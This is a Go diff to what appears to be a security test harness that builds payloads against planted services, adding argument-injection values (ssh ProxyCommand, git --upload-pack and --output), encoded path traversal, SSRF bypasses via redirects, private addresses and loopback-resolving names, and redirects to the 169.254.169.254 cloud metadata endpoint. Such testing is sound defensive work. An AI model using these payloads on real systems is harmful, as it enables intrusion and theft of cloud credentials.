@@ -27,6 +27,10 @@ type Place struct {
 	WriteDir  string // a folder outside of Root in which anybody may write
 	Port      int    // of a planted service on the loopback address
 	Metadata  string // the address of a planted metadata service, with the path of its credentials
+	Private   string // host and port of the same planted service in a private network
+	Named     string // host and port of a public name that leads to the service on the loopback address
+	Redirect  string // a public address without a path that sends on to that service
+	ToCloud   string // one that sends on to the metadata service
 }
 
 // A Payload is one value to try, and what would prove that it worked.
@@ -96,7 +100,8 @@ var argumentVariants = []variant{
 	option("an option behind a space", func(m Mark, seed string) string { return seed + " --gauntlet-" + m.Token + "=1" }, probe.Program),
 	option("ssh's ProxyCommand", func(m Mark, _ string) string { return "-oProxyCommand=touch " + m.Touch }, probe.File, probe.Program),
 	option("an option instead of a name", func(m Mark, _ string) string { return "--gauntlet-" + m.Token + "=1" }, probe.Program),
-	option("git's upload-pack", func(m Mark, _ string) string { return "--upload-pack=touch " + m.Touch }, probe.File),
+	option("git's --output", func(m Mark, _ string) string { return "--output=" + m.Touch }, probe.File, probe.Program),
+	option("git's upload-pack", func(m Mark, _ string) string { return "--upload-pack=touch " + m.Touch }, probe.File, probe.Program),
 }
 
 func code(name, format string) variant {
@@ -199,6 +204,13 @@ var traversalVariants = []variant{
 		return strings.Repeat("..%2f", 12) + strings.TrimPrefix(p.Outside, "/")
 	}),
 	file("file:// address", "outside", func(p Place) string { return behind("file://", p.Outside) }),
+	file("encoded as a whole", "outside", func(p Place) string {
+		if p.Outside == "" {
+			return ""
+		}
+		return strings.ReplaceAll(url.PathEscape(climb+p.Outside), ".", "%2e")
+	}),
+	file("file:// address with ../", "outside", func(p Place) string { return behind("file://"+p.Root+"/"+climb, p.Outside) }),
 	file("....//", "outside", func(p Place) string { return behind(strings.Repeat("....//", 12), strings.TrimPrefix(p.Outside, "/")) }),
 	file("behind a NUL", "outside", func(p Place) string {
 		if p.Outside == "" {
@@ -228,11 +240,22 @@ func inner(name, format string) variant {
 	}
 }
 
+// elsewhere is another way to a planted service.
+func elsewhere(name string, address func(p Place) string) variant {
+	return func(m Mark, p Place, _ string) (Payload, bool) {
+		a := address(p)
+		return Payload{Variant: name, Value: a + "/" + m.Token, Expect: []probe.Kind{probe.Content, probe.Callback}, Leads: "service"}, a != ""
+	}
+}
+
 var ssrfVariants = []variant{
 	inner("127.0.0.1", "http://127.0.0.1:%d/"),
 	inner("IPv4 in IPv6", "http://[::ffff:7f00:1]:%d/"),
 	inner("localhost", "http://localhost:%d/"),
+	elsewhere("a redirect", func(p Place) string { return p.Redirect }),
 	file("file://", "outside", func(p Place) string { return behind("file://", p.Outside) }),
+	elsewhere("a private address", func(p Place) string { return behind("http://", p.Private) }),
+	elsewhere("a name that leads to the loopback address", func(p Place) string { return behind("http://", p.Named) }),
 	inner("one number", "http://2130706433:%d/"),
 	inner("0.0.0.0", "http://0.0.0.0:%d/"),
 	inner("behind a user name", "http://example.com@127.0.0.1:%d/"),
@@ -252,6 +275,10 @@ var metadataVariants = []variant{
 	},
 	func(_ Mark, p Place, _ string) (Payload, bool) {
 		return Payload{Variant: "169.254.169.254 in IPv6", Value: strings.Replace(p.Metadata, "169.254.169.254", "[::ffff:a9fe:a9fe]", 1), Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
+	},
+	func(_ Mark, p Place, _ string) (Payload, bool) {
+		to := p.ToCloud + strings.TrimPrefix(p.Metadata, "http://169.254.169.254")
+		return Payload{Variant: "a redirect", Value: to, Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.ToCloud != ""
 	},
 	func(_ Mark, p Place, _ string) (Payload, bool) {
 		return Payload{Variant: "169.254.169.254 as a number", Value: strings.Replace(p.Metadata, "169.254.169.254", "2852039166", 1), Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
